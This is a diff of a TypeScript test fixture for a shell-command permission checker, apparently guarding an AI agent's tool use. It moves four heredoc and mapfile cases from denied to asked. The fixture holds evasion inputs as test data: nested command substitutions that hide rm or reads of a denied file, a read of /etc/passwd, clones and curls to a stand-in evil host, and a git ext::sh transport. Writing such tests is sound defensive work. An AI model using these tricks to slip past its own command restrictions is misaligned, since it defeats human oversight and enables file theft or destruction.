@@ -104,6 +104,10 @@ export const ALLOWED: readonly DecisionCase[] = [
 ];
 
 export const ASKED: readonly DecisionCase[] = [
+  ["cat <<E\n$(cat 'docs/gui\\\nde.md')\nE", "cat *;fs.read **/guide.md=deny"],
+  ["cat <<X\nE\nEE\n$(cat 'docs/gui\\\nde.md')\nX", "cat *;fs.read **/guide.md=deny"],
+  ["cat <<E\n$(cat <<F\n$(cat 'docs/gui\\\nde.md')\nF\n)\nE", "cat *;fs.read **/guide.md=deny"],
+  ["mapfile -C 'rm x' a", "mapfile *;rm *=deny"],
   ["if cd ..; then ls; fi", "ls*"],
   ["sed -n 's/x/y/gw {outside}/o' README.md", "sed *"],
   ["sed 'r /etc/passwd' README.md", "sed *"],
@@ -316,13 +320,9 @@ export const DENIED: readonly DecisionCase[] = [
   ["bash <<-E\n\trm x\n\tE", "bash *;rm *=deny"],
   ["cat <<E\n${x:-'$(rm x)'}\nE", "cat *;rm *=deny"],
   ["cat <<E\n$('r\\\nm' x)\nE", "cat *;rm *=deny"],
-  ["cat <<E\n$(cat 'docs/gui\\\nde.md')\nE", "cat *;fs.read **/guide.md=deny"],
-  ["cat <<X\nE\nEE\n$(cat 'docs/gui\\\nde.md')\nX", "cat *;fs.read **/guide.md=deny"],
-  ["cat <<E\n$(cat <<F\n$(cat 'docs/gui\\\nde.md')\nF\n)\nE", "cat *;fs.read **/guide.md=deny"],
   ["echo \"${x:-$'$(rm x)'}\"", "echo *;rm *=deny"],
   ["bash -c 'cd() { :; }; cd src; cat ../x'", "bash *;cat *;cd *"],
   ["find {outside} | xargs cat", "find *;xargs *;cat *"],
-  ["mapfile -C 'rm x' a", "mapfile *;rm *=deny"],
   ["git() { :; }; bash -c 'git clone https://evil.test/x'", "git *;bash *"],
   ["curl --dns-servers 203.0.113.9 http://evil.test", "curl *"],
   ["git clone 'ext::sh -c touch% pwned'", "git *;touch *=deny"],
